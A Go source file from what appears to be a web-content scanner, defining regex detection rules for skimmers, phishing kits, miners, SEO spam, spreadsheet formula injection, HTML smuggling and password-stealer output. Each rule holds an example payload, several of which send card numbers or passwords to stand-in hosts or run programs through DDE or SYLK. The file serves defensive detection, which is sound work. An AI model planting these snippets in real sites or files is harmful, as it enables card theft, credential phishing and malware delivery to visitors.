// Pages of web sites that intruders change, to rob or mislead their visitors.

package content

import "strings"

const (
	atSkimmers = "MITRE ATT&CK, T1056.003 (web portal capture)"
	atPhishing = "MITRE ATT&CK, T1598.003 (phishing for information)"
	atDriveBy  = "MITRE ATT&CK, T1189 (drive-by compromise)"
	atClients  = "MITRE ATT&CK, T1552.001 (credentials in files)"
	atSEO      = "MITRE ATT&CK, T1608.006 (SEO poisoning)"

	// hiddenAddress is the address of a site, http: or wss: or //, in base64, as codes of letters, or in hexadecimal.
	hiddenAddress = `\batob\s*\(\s*["'` + "`" + `](ahr0c|d3nz|ly9|ly8)|fromcharcode\s*\(\s*(104\s*,\s*116\s*,\s*116\s*,\s*112|119\s*,\s*115\s*,\s*115)\b|["'](\\x68\\x74\\x74\\x70|\\x77\\x73\\x73)`
	// cardField is the name of a field with the number or the code of a payment card.
	cardField = `(\b|_)(cc[_-]?(number|num|cid|cvv|cvc|exp\w*)|card[_-]?(number|num|code|cvv|cvc)|cvv2?|cvc2?|securitycode|ccnum)\b`
	// ofCheckout are the pages of a checkout, as the choice of a pattern.
	ofCheckout = `\b(onepage|onestep\w*|firecheckout|(one)?checkout)\s*\|\s*(onepage|onestep\w*|firecheckout|(one)?checkout|cart)|\bregexp\s*\(\s*["'](onepage|onestep|firecheckout|checkout)["']`
	// searchEngines are three names of them at least.
	searchEngines = `((google|bing|yahoo|aol|yandex|baidu|duckduckgo|\bask\b|\bmsn\b)[^;{}<]{0,40}){3}`
	// aSecret is a password or a number that only its owner and his bank know.
	aSecret = `(pass(word|wd|wort|code)?|pwd|passw|pin|tan|otp|cvv2?|cvc2?|ssn|card_?num(ber)?|cc_?num(ber)?)\d?`
	// notSeen is a style of what visitors do not see.
	notSeen = `(display:\s*none|visibility:\s*hidden|font-size:\s*0|(left|top|text-indent|margin-left):\s*-\d{3,}(px|em)|\b(height|width):\s*[01](px)?\s*[;"']|opacity:\s*0\s*[;"'])`
	// spam is what such links sell, drugs among it.
	drugs = `(buy|cheap|order|generic|discount)[ -](viagra|cialis|levitra|tramadol|xanax|kamagra)|(viagra|cialis|levitra)[ -](online|no[ -]prescription)`
	spam  = drugs + `|online[ -](casino|slots)|casino[ -](online|bonus)|payday[ -]loans?|replica[ -](watch|rolex|handbag)|essay[ -]writing[ -]service|slot[ -]gacor|\bjudi[ -](online|bola)`
)

// pagePlants are such pages.
var pagePlants = []plant{
	{what: "a script that reads payment cards, and hides the address that it sends them to", kind: Malicious, source: atSkimmers,
		example: `document.querySelectorAll("input").forEach(e=>{if(/cc_number|cvv/i.test(e.name))d[e.name]=e.value});new Image().src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")+btoa(JSON.stringify(d))`,
		parts:   []part{like(hiddenAddress, "atob", "fromcharcode", `\x68\x74\x74\x70`, `\x77\x73\x73`), like(cardField, "cc", "card", "cv", "securitycode"), marked(".value", "formdata", "serialize(")}},
	{what: "a script that reads what visitors type on the pages of a checkout", kind: Malicious, source: atSkimmers,
		example: `if((new RegExp("onepage|checkout")).test(window.location)){var i=document.querySelectorAll("input, select");for(k in i)t+=i[k].name+"="+i[k].value;$.post(u,t)}`,
		parts: []part{like(ofCheckout, "onepage", "onestep", "checkout"), marked("location"), marked(".value", ".val("),
			like(`["'](input|select)\b|\binput\s*,\s*select`, "input", "select"), like(`xmlhttprequest|\bfetch\s*\(|\.ajax\b|\.post\b|sendbeacon|new image\b|\.src\s*=`, "xmlhttp", "fetch", ".ajax", ".post", "sendbeacon", "image", ".src")}},
	{what: "a script that loads another one on the pages of a checkout", kind: LikelyMalicious, source: atSkimmers,
		example: `if((new RegExp("onepage|checkout|onestep")).test(window.location)){document.write('<script src="https://stats.example/a.js"></script>')}`,
		parts:   []part{like(ofCheckout, "onepage", "onestep", "firecheckout"), marked("location"), like(`document\.write|createelement\s*\(\s*["']script|\beval\b`, "document.write", "createelement", "eval")}},
	{what: "a script that sends payment cards and where their owners live to a site that it names", kind: LikelyMalicious, source: atSkimmers,
		example: `d.n=document.getElementById("ccsave_cc_number").value;d.f=document.getElementById("billing:firstname").value;$.post("https://stats.example/g.php",d)`,
		parts:   []part{like(cardField, "cc", "card", "cv", "securitycode"), marked("billing:", "billing["), marked(".value", ".val("), like(`["'](https?:)?//[\w.-]+\.\w+/[^"'\n]*["']`, "//"), like(`xmlhttprequest|\bfetch\s*\(|\.ajax\b|\.post\b|sendbeacon|new image\b|\.src\s*=`, "xmlhttp", "fetch", ".ajax", ".post", "sendbeacon", "image", ".src")}},
	{what: "a script whose words are in hexadecimal", kind: Suspicious, source: "MITRE ATT&CK, T1027 (obfuscated files)",
		example: `var _0x9533=["\x75\x6e\x64\x65\x66","\x76\x61\x6c\x75\x65"];`,
		parts:   []part{like(`\b_(\$_)?(0x)?[0-9a-f]{4,6}\s*=\s*\[\s*["'](\\x[0-9a-f]{2}){3}|\[\s*["'](\\x[0-9a-f]{2}){4,}["']\s*\]\s*[\[(]`, `\x`)}},
	{what: "a script that encodes payment cards and sends them", kind: LikelyMalicious, source: atSkimmers,
		example: `var d={n:document.querySelector("#card-number").value};navigator.sendBeacon("https://stats.example/c",btoa(JSON.stringify(d)))`,
		parts:   []part{like(`\bbtoa\s*\(\s*((unescape|encodeuricomponent)\s*\(\s*)*json\.stringify`, "btoa"), like(cardField, "cc", "card", "cv", "securitycode"), like(`\bfetch\s*\(\s*["']https?:|\bsendbeacon\s*\(|xmlhttprequest|\$\.(post|ajax)`, "fetch", "sendbeacon", "xmlhttprequest", "$.")}},
	{what: "a script that sends the numbers and codes of payment cards to another site, as the address of a picture", kind: Malicious, source: atSkimmers,
		example: `new Image().src="https://stats.example/g.gif?d="+btoa(f["cc_number"].value+f["cc_cvv"].value)`,
		parts: []part{like(`\b(new\s+image\b[^;\n]{0,40}|createelement\(["']img[^\n]{0,80})\.src\s*=\s*["'](https?:)?//`, "image", "createelement"), marked("btoa(", "encodeuri", "json.stringify", "escape("),
			like(`(\b|_)(cc[_-]?(number|num)|card[_-]?(number|num)|ccnum)\b`, "number", "num"), like(`(\b|_)(cvv2?|cvc2?|cid|securitycode)\b`, "cv", "cid", "securitycode"), marked(".value", "formdata", "serialize(")}},
	{what: "a page that sends the payment cards or passwords of its visitors on, as an address of another site", kind: Malicious, source: atSkimmers,
		example: `<?php @file_get_contents('http://203.0.113.9/g.php?c='.urlencode($_POST['payment']['cc_number'])); ?>`,
		parts:   []part{like(`\b(file_get_contents|fopen|file|readfile|curl_init|get_headers)\s*\(\s*["']https?://[^"'\n]*["']\s*\.[^;\n]{0,200}\$_(post|request)\b[^;\n]{0,60}["']\w*?(`+aSecret+`|cc_?(num|cid|cvv)\w*)["']`, "$_post", "$_request")}},
	{what: "a script that sends payment cards as the address of a picture", kind: LikelyMalicious, source: atSkimmers,
		example: `if(f["cc_number"].value){new Image().src="https://stats.example/g.gif?d="+btoa(JSON.stringify(f))}`,
		parts:   []part{marked("btoa("), like(cardField, "cc", "card", "cv", "securitycode"), like(`new\s+image\b|\bsendbeacon\s*\(|\bcreateelement\(["']img`, "image", "sendbeacon", "createelement"), marked(".value", "formdata", "serialize(")}},
	{what: "a page that keeps the payment cards of its visitors where nobody looks for them", kind: Malicious, source: atSkimmers,
		example: `<?php if(isset($_POST["payment"]["cc_number"])){file_put_contents("/tmp/.sess_1",base64_encode(json_encode($_POST)),FILE_APPEND);} ?>`,
		parts: []part{like(`\$_(post|request)\b[^;{}\n]{0,60}["'](cc_?(num(ber)?|cid|cvv2?|cvc2?)|card_?num(ber)?|cvv2?|cvc2?)["']|\$_(post|request)\b[\s\S]{0,400}\bcc_?(number|cid)\b`, "$_post", "$_request"),
			like(`\b(file_put_contents|fopen|error_log)\s*\([^;\n]{0,200}?["'](/(tmp|var/tmp|dev/shm)/|[^"'\n]*/\.\w|[^"'\n]*\.(jpe?g|png|gif|ico|css)["'])[\s\S]{0,300}(\$_(post|request)\b|base64_encode|json_encode|serialize)`, "file_put_contents", "fopen", "error_log")}},

	{what: "a page that sends the passwords of its visitors on, and its visitors to another site", kind: Malicious, source: atPhishing,
		example: `<?php mail("a@b.example","Log","PIN: ".$_POST["pin"]."\nIP: ".$_SERVER["REMOTE_ADDR"]);header("Location: https://www.bank.example"); ?>`,
		parts: []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']`, "$_post", "$_request"), like(`\bmail\s*\(|\bfwrite\s*\(|\bfile_put_contents\s*\(|api\.telegram\.org/bot`, "mail", "fwrite", "file_put", "telegram"),
			like(`remote_addr|http_client_ip|http_user_agent|[:=|>-] *["']\s*\.\s*\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']`, "remote_addr", "http_client_ip", "http_user_agent", "$_post", "$_request"), like(`\bheader\s*\(\s*["']location:\s*https?://|\b(window|document|top)\.location(\.href)?\s*=\s*["']https?://|http-equiv=["']?refresh[^>]*https?://`, "location", "refresh")}},
	{what: "a page that sends the passwords of its visitors to a chat", kind: Malicious, source: atPhishing,
		example: `<?php $m=$_POST["email"]." ".$_POST["password"];file_get_contents("https://api.telegram.org/bot123:AA/sendMessage?chat_id=1&text=".urlencode($m)); ?>`,
		parts:   []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']|\b(pass(word|wd)?|pwd|pin|otp)\b\w*\.value\b`, "$_post", "$_request", ".value"), marked("api.telegram.org/bot", "discord.com/api/webhooks", "discordapp.com/api/webhooks")}},
	{what: "a page that hides from those who look for phishing", kind: LikelyMalicious, source: atPhishing,
		example: "deny from phishtank.com\ndeny from google.com\ndeny from netcraft.com\n",
		parts:   []part{marked("phishtank"), marked("google", "netcraft", "kaspersky", "paypal", "cyveillance", "paloalto"), marked("deny from", "remote_addr", "gethostbyaddr", "http_user_agent", "rewritecond")}},

	{what: "a miner in a page", kind: Malicious, source: atMiners,
		example: `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("6GlW").start();</script>`,
		parts: []part{like(`\bnew\s+(coinhive|cryptoloot|crypta|coinimp|client|deepminer|projectpoi|minero|webminer\w*|wmp)\s*\.\s*(anonymous|user|token)\s*\(|\b(startmining|deepminer\.init|crlt\.anonymous|perfektstart)\s*\(`, "new ", "mining", "deepminer", "crlt", "perfektstart"),
			like(`coin-?hive|crypto-?loot|crypta\b|coinimp|deepminer|webminepool|webmine\.|minero\.cc|monerominer|hashing\.win|freecontent\.|hostingcloud\.|ppoi\.org|\bthrottle\b`, "coin", "crypt", "mine", "hash", "freecontent", "hostingcloud", "ppoi", "throttle")}},

	{what: "settings that lead only visitors from search engines to another site", kind: Malicious, source: atDriveBy,
		example: "RewriteCond %{HTTP_REFERER} .*(google|bing|yahoo|ask|aol).* [NC]\nRewriteRule ^(.*)$ http://tds.example/in.cgi?7 [R=302,L]\n",
		parts: []part{like(`rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b`+searchEngines+`|(rewritecond[^\n]*%\{http_referer\}[ \t]+[^!\n]*\b(google|bing|yahoo|aol|yandex|baidu|ask|msn)\b[^\n]*\n\s*){3}`, "%{http_referer}"),
			like(`rewriterule[ \t]+\S+[ \t]+["']?https?://[^%\s]`, "rewriterule")}},
	{what: "a page that leads only visitors from search engines to another site", kind: LikelyMalicious, source: atDriveBy,
		example: `<?php if(preg_match("/google|bing|yahoo/i",$_SERVER["HTTP_REFERER"])){header("Location: http://tds.example/?k=1");exit;} ?>`,
		parts:   []part{like(`http_referer["']?\s*\]?[\s\S]{0,200}`+searchEngines+`|`+searchEngines+`[\s\S]{0,200}http_referer|`+searchEngines+`[\s\S]{0,80}document\.referrer|document\.referrer[\s\S]{0,200}`+searchEngines, "referer", "referrer"), like(`\bheader\s*\(\s*["']location:\s*https?://|\blocation(\.href)?\s*=\s*["']https?://|\blocation\.replace\s*\(\s*["']https?://`, "location")}},
	{what: "a page that hands its visitors a program in a frame", kind: LikelyMalicious, source: atDriveBy,
		example: `<iframe src="Photo.scr" width="1" height="1"></iframe>`,
		parts:   []part{like(`<iframe\b[^>]{0,200}\bsrc\s*=\s*["']?[^"'>\s]{1,200}\.(scr|pif|hta|vbs|jse|lnk)\b`, "<iframe")}},
	{what: "hidden links, as spam for search engines has them", kind: Defaced, source: atSEO,
		example: `<div style="position:absolute;left:-9999px"><a href="http://pillz.example/1">buy viagra</a></div>`,
		parts:   []part{like(`style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>(\s|<\w+>|<!--|[^<]{0,40})*<a\s[^>]*>[^<]*(`+spam+`)|style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>\s*(<a\s[^>]*href\s*=\s*["']?https?://[^>]*>[^<]{0,80}</a>\s*){3}[\s\S]{0,400}(`+spam+`)`, "display", "visibility", "font-size", "position", "indent", "margin", "height", "width", "opacity")}},
	{what: "spam for search engines, on a page that leads its visitors to another site at once", kind: Defaced, source: atSEO,
		example: `<title>Buy cheap viagra</title><meta http-equiv=refresh content="0;url=http://pillz.example/">`,
		parts:   []part{like(`<meta\b[^>]*http-equiv=["']?refresh\b[^>]*content=["']?[0-3]\s*;\s*url=["']?https?://|<script[^>]*>[^<]{0,200}\blocation(\.href|\.replace\()?\s*=?\s*["']https?://`, "refresh", "location"), like(drugs, "viagra", "cialis", "levitra", "tramadol", "xanax", "kamagra")}},
	{what: "a page about drugs that sells what else spam sells", kind: Defaced, source: atSEO,
		example: "<title>Buy cheap viagra online</title><body>cheap cialis, casino and payday loans</body>",
		parts:   []part{like(`<(title|h1)\b[^>]*>[^<]*(`+drugs+`)`, "viagra", "cialis", "levitra", "tramadol", "xanax", "kamagra"), marked("casino", "poker", "slots"), marked("payday", "replica", "essay", "escort")}},
	{what: "links to all that spam for search engines sells", kind: Defaced, source: atSEO,
		example: `<a href="http://a.example/">cheap viagra</a> <a href="http://b.example/">online casino</a> <a href="http://c.example/">payday loans</a>`,
		parts:   []part{like(`<a\s[^>]*>[^<]*\b(viagra|cialis|levitra)\b`, "viagra", "cialis", "levitra"), like(`<a\s[^>]*>[^<]*\b(casino|poker|slots)\b`, "casino", "poker", "slots"), like(`<a\s[^>]*>[^<]*(payday|replica|essay|escort)`, "payday", "replica", "essay", "escort")}},

	{what: "a table whose cells start programs", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1559.002 (dynamic data exchange); CWE-1236",
		example: "1,=cmd|'/c calc'!A1,2\n",
		parts:   []part{like(`(^|[,;\t"'\n])\s*[=+@-]\s*(@?sum\([^)]*\)\s*[*+-]\s*|[\d\s+*/().-]{1,40})?(cmd|powershell|msexcel|mshta|regsvr32|rundll32|wscript|cscript|certutil|bitsadmin|calc|notepad)(\.exe)?\s*\|\s*["']|(^|[,;\t"'\n])=?\s*dde\s*\(\s*"+(cmd|powershell|mshta)|\bddeauto\s+["\\]*(c:|cmd|powershell|mshta)`, "|", "dde")}},
	{what: "a table of symbolic links (SYLK) whose macro starts a program", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1559.002 (dynamic data exchange)",
		example: "ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC(\"CMD.EXE /c calc\")\n",
		parts:   []part{like(`^id;p`, "id;p"), like(`\be(exec|call)\s*\(`, "exec", "call")}},
	{what: "a page that makes a program on the computer of its visitor", kind: Malicious, fetched: true, source: "MITRE ATT&CK, T1027.006 (HTML smuggling)",
		example: `<script>var d=atob("TVqQAAMAAAAEAAAA");var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="invoice.exe";a.click();</script>`,
		parts:   []part{like(`\bnew\s+(file|blob)\b|mssaveoropenblob`, "blob", "new file"), like(`["'`+"`"+`](tvqq|tvpq|tvro|tvqa)[a-z0-9+/]|\.download\s*=\s*["'][^"'\n]*\.(exe|scr|iso|img|hta|js|vbs|lnk|msi)["']`, "tv", "download")}},
	{what: "a table whose cells send other cells to a site", kind: LikelyMalicious, fetched: true, source: "OWASP, CSV injection; CWE-1236",
		example: "1,\"=HYPERLINK(\"\"http://203.0.113.9/?\"\"&A1&A2,\"\"ok\"\")\"\n",
		parts:   []part{like(`[=+@-]\s*(hyperlink|webservice|image|importxml|importdata|importhtml|importfeed)\s*\(\s*(concat\w*\s*\(\s*)?"+(https?|ftp)://[^"\n]*"+\s*[&,;]\s*(concat\w*\s*\(\s*)?\$?[a-z]{1,2}\$?\d`, "hyperlink", "webservice", "image", "import")}},
}

// stolenTexts are texts that programs which steal passwords write.
var stolenTexts = []plant{
	{what: "the password of a wireless network", kind: PasswordList, source: "MITRE ATT&CK, T1602 and T1552 (unsecured credentials)",
		example: "<WLANProfile><protected>false</protected><keyMaterial>Lens-42</keyMaterial></WLANProfile>",
		parts:   []part{marked("<wlanprofile"), like(`<protected>\s*false\s*</protected>\s*<keymaterial>\s*[^<\s]`, "<keymaterial>")}},
	{what: "the password of a wireless network, as netsh prints it", kind: PasswordList, source: "MITRE ATT&CK, T1602 and T1552 (unsecured credentials)",
		example: "    SSID name              : \"Home5\"\r\n    Key Content            : Lens42\r\n",
		parts:   []part{like(`\bssid[- ]name\s*:`, "ssid"), like(`\bkey content\s*: *\S`, "key content")}},
	{what: "the words from which a wallet of coins is restored", kind: PasswordList, source: "MITRE ATT&CK, T1657 (financial theft); BIP 39",
		example: `{"mnemonic":"` + strings.Repeat("able ", 11) + `zoo"}`,
		parts:   []part{like(`\b(mnemonic|(seed|recovery|secret)[ _-]?(phrase|words)?|wallet)["']?\s*[:=]\s*["']?([a-z]{3,8}[ ,]+){11,23}[a-z]{3,8}["'\s]*([^a-z\s]|$)`, "mnemonic", "seed", "recovery", "secret", "wallet")}},
	{what: "the passwords of a browser, as a program of NirSoft lists them", kind: PasswordList, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
		example: "======\r\nURL               : https://www.example\r\nWeb Browser       : Chrome\r\nUser Name         : ada\r\nPassword          : x1\r\n",
		parts:   []part{like(`\burl {2,}: [^\n]*\n\s*web browser {2,}: [^\n]*\n\s*user name {2,}: [^\n]*\n\s*password {2,}: [^\s]`, "web browser")}},
	{what: "the settings of a cluster of Kubernetes, with the key of a user", kind: CloudKeys, fetched: true, source: "MITRE ATT&CK, T1552.001 (credentials in files)",
		example: "apiVersion: v1\nkind: Config\nusers:\n- user:\n    client-key-data: LS0tLS1CRUdJTi\n",
		parts:   []part{marked("apiversion:"), like(`\bclient-key-data: *ls0t`, "client-key-data")}},
	{what: "the passwords of FileZilla", kind: BrowserStore, source: atClients,
		example: `<FileZilla3><Server><User>ada</User><Pass encoding="base64">THVwaW4=</Pass></Server></FileZilla3>`,
		parts:   []part{marked("<filezilla3"), like(`<pass( encoding="base64")?>[^<]`, "<pass")}},
	{what: "the passwords of WinSCP", kind: BrowserStore, source: atClients,
		example: "[Sessions\\ada@srv]\r\nUserName=ada\r\nPassword=A35C7659B8\r\n",
		parts:   []part{marked(`[sessions\`), like(`(?m)^password=[0-9a-f]{8,}`, "password=")}},
	{what: "the vault of a wallet in a browser", kind: BrowserStore, where: anywhere, source: "MITRE ATT&CK, T1657 (financial theft)",
		example: `{"vault":"{\"data\":\"kX0/Q==\",\"iv\":\"a==\",\"salt\":\"b=\"}"}`,
		parts:   []part{like(`"data\\*" *: *\\*"[^"\\]{4,}\\*" *, *\\*"iv\\*" *: *\\*"[^"\\]+\\*"[\s\S]{0,200}"salt\\*" *:`, "salt"), marked("vault")}},
	{what: "the token with which an account of Discord is used", kind: PasswordList, source: "MITRE ATT&CK, T1528 (steal application access token)",
		example: "mfa." + strings.Repeat("Ab_9-", 12) + "\n",
		parts:   []part{like(`(^|[\s"'=:])mfa\.[\w-]{50,90}([\s"']|$)`, "mfa.")}},
	{what: "the passwords of Firefox, encrypted", kind: BrowserStore, where: anywhere, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
		example: `{"nextId":2,"logins":[{"id":1,"hostname":"https://www.example","encryptedUsername":"MDIE","encryptedPassword":"MDoE"}]}`,
		parts:   []part{marked("encryptedusername"), marked("encryptedpassword")}},
	{what: "a database of a browser with its passwords", kind: BrowserStore, where: inBinary, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
		example: "SQLite format 3\x00\x10\x00\x01\x01CREATE TABLE logins (origin_url VARCHAR, username_value VARCHAR, password_value BLOB)",
		parts:   []part{like(`create table "?logins"? *\([^)]*\bpassword_value\b`, "password_value")}},
	{what: "a database of a browser with its cookies, or with the keys of its passwords", kind: Suspicious, where: inBinary, source: "MITRE ATT&CK, T1539 (steal web session cookie)",
		example: "SQLite format 3\x00\x10\x00\x01\x01CREATE TABLE moz_cookies (id INTEGER PRIMARY KEY, name TEXT, value TEXT, host TEXT)",
		parts:   []part{like(`create table "?(moz_cookies|nssprivate)\b|create table "?cookies"? *\([^)]*\bencrypted_value\b`, "moz_cookies", "nssprivate", "encrypted_value")}},
	{what: "the text of a program that steals passwords", kind: Malicious, where: anywhere, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
		example: strings.Repeat("Soft: Edge\r\nHost: https://www.example\r\nLogin: ada\r\nPassword: x1\r\n\r\n", 2),
		parts: []part{like(`\b(soft(ware)?|browser( name)?|storage|app(lication)?|profile)[ \t]*:[^\n]{0,99}\n\s*((profile|name)[ \t]*:[^\n]*\n\s*)?(host(name)?|url|link|site|domain|origin)[ \t]*:[^\n]{0,300}\n\s*(user( ?name)?|usr|login|e-?mail)[ \t]*:[^\n]{0,200}\n\s*(pass( ?word)?|pwd|psw)[ \t]*:`, "soft", "browser", "storage", "app", "profile"),
			marked("pass", "pwd", "psw")}},
	{what: "the text of a program that steals passwords, of several sites", kind: Malicious, source: "MITRE ATT&CK, T1555.003 (credentials from web browsers)",
		example: strings.Repeat("URL: https://www.example/\nUSR: ada\nPASS: x1\n\n", 3),
		parts:   []part{like(`((host|url)[ \t]*:[ \t]*https?://[^\n]{0,300}\n\s*(usr|user|login)[ \t]*:[^\n]{0,200}\n\s*(pass|pwd|psw)[ \t]*:[^\n]{0,200}\n[\s=*_-]*){3}`, "usr:", "pass:", "psw:", "pwd:")}},
	{what: "what LaZagne prints", kind: Malicious, source: "MITRE ATT&CK, S0349 (LaZagne)",
		example: "|   The LaZagne Project   |\n[+] Password found !!!\n",
		parts:   []part{marked("the lazagne project"), marked("password found !!!")}},
	{what: "what a program that steals passwords writes about a computer", kind: LikelyMalicious, source: "MITRE ATT&CK, T1082 (system information discovery)",
		example: "Build ID: u1\nIP: 203.0.113.7\nHWID: 9A3F\nCountry: DE\n",
		parts:   []part{marked("hwid:", "hwid :", "machineid:", "machine guid:"), like(`\bbuild( ?id|_id)\s*:`, "build"), marked("country", "ip:", "ip address")}},
}
